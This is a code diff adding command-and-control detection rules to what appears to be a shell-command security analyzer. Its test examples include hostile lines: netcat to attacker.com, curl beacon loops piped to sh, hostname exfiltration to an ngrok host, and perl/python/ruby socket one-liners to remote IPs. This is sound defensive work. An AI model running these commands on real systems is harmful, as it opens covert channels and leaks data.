@@ -7,7 +7,7 @@ import { hostileText } from './persistence.js';
 /** Shared vocabulary of the host-compromise analyzers (persistence, privilege escalation, evasion, impact use it too). */
 export const SHELLS: ReadonlySet<string> = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'ash', 'mksh', 'fish', 'tcsh', 'csh', 'rbash', 'yash']);
 const INTERPRETERS = new Set(['python', 'python2', 'python3', 'perl', 'ruby', 'node', 'php', 'lua', 'deno', 'bun', 'pwsh', 'tclsh', 'Rscript']);
-export const FETCHERS: ReadonlySet<string> = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'https', 'xh', 'lwp-download', 'lwp-request', 'GET', 'wget2', 'curlie']);
+export const FETCHERS: ReadonlySet<string> = new Set(['curl', 'wget', 'fetch', 'aria2c', 'http', 'https', 'xh', 'lwp-download', 'lwp-request', 'wget2', 'curlie']);
 const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'cryptcat', 'pwncat', 'gs-netcat']);
 const SOCKET_TOOLS = new Set([...NETCATS, 'telnet', 'socat', 'openssl']);
 /** Text transforms a payload passes through between the download and the shell. */
@@ -424,7 +424,43 @@ export const RULES: readonly Rule[] = [
     },
     examples: { fire: ['cat test/fixtures/reverse_shells.txt | sh', "jq -r '.cmd' test/fixtures/cases.jsonl | bash", "grep -h '^run:' notes.md | sh"], quiet: ['cat install.sh | bash -n', 'jq -r .version package.json', 'cat data.json | jq .'] },
   },
-
+  {
+    id: 'PX-C2-017', name: 'netcat-connects-to-remote-host', score: 50, tactic: 'command_and_control', technique: 'T1095',
+    message: 'Opens a raw TCP session to a remote host', why: 'An interactive netcat or telnet session to an outside host is a hand-made channel that bypasses every protocol-aware control.',
+    alternative: 'Check reachability with nc -z host port; use the service\'s own client for real work.',
+    commands: ['nc', 'ncat', 'netcat', 'telnet'],
+    test: (c, i) => {
+      if (c.argv.some((a) => /^-[a-zA-Z]*[zlL]/.test(a) || a === '--listen')) return undefined;
+      const d = i.facts.destinations.find((x) => x.cmd === c && x.kind !== 'loopback' && x.kind !== 'private');
+      const host = d?.host ?? operands(c).find((w) => /^[A-Za-z][A-Za-z0-9.-]*\.[A-Za-z]{2,}$/.test(w));
+      return host ? c.argv.join(' ') : undefined;
+    },
+    examples: { fire: ['nc attacker.com 4444', 'ncat 45.33.12.7 8080', 'telnet evil.example 23'], quiet: ['nc -z localhost 5432', 'nc -zv db.internal 5432', 'nc -lvp 8080', 'telnet localhost 25'] },
+  },
+  {
+    id: 'PX-C2-018', name: 'beacons-in-loop', score: 75, tactic: 'command_and_control', technique: 'T1071.001',
+    message: 'Polls a remote host in an endless, timed loop', why: 'A fetch repeated forever with a sleep between tries is the shape of an implant checking in with its controller.',
+    check: (i) => {
+      const cmds = i.view?.commands ?? [];
+      if (!i.view?.loops || !cmds.some((c) => c.name === 'sleep')) return undefined;
+      const fetch = cmds.find((c) => FETCHERS.has(c.name) && i.facts.destinations.some((d) => d.cmd === c && d.kind !== 'loopback' && d.kind !== 'private' && d.kind !== 'developer'));
+      return fetch ? `loop: ${fetch.argv.join(' ')}; sleep` : undefined;
+    },
+    examples: { fire: ['while true; do wget http://evil.com/cmd; sleep 30; done', 'while :; do curl -s http://45.33.12.7/t | sh; sleep 60; done &', 'for i in $(seq 1 1000); do curl -s -d "$(hostname)" https://x.ngrok.io/b; sleep 5; done'], quiet: ['while true; do curl -s http://localhost:3000/health; sleep 2; done', 'for i in 1 2 3; do curl -fsS https://api.github.com/rate_limit; sleep 1; done', 'until curl -s http://db.internal:8080/ready; do sleep 1; done'] },
+  },
+  {
+    id: 'PX-C2-019', name: 'interpreter-opens-raw-socket', score: 60, tactic: 'command_and_control', technique: 'T1095',
+    message: 'A script one-liner opens a raw socket to a remote address', why: 'Hand-built sockets in perl, python or ruby one-liners are how reverse shells and ad-hoc channels start, even before the shell is attached.',
+    check: (i) => {
+      for (const s of i.view?.scripts ?? []) {
+        if (s.code.length > 20000 || !SOCKET_HINTS.some((h) => s.code.includes(h))) continue;
+        const remote = s.strings.find((w) => /^\d{1,3}(\.\d{1,3}){3}$/.test(w) && !w.startsWith('127.')) ?? i.facts.destinations.find((d) => d.cmd === s.command && d.kind !== 'loopback')?.host;
+        if (remote) return `${s.lang} socket to ${remote}`;
+      }
+      return undefined;
+    },
+    examples: { fire: ["perl -e 'use Socket;$i=\"10.0.0.1\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"))'", "python3 -c 'import socket;s=socket.socket();s.connect((\"45.33.12.7\",9001))'", "ruby -rsocket -e 'TCPSocket.new(\"45.33.12.7\",443)'"], quiet: ["python3 -c 'import socket; print(socket.gethostname())'", "python3 -c 'import socket;s=socket.socket();s.connect((\"127.0.0.1\",5432))'", "node -e 'console.log(1)'"] },
+  },
 ];
 
 export const commandAndControl = ruleAnalyzer('command_and_control', RULES);
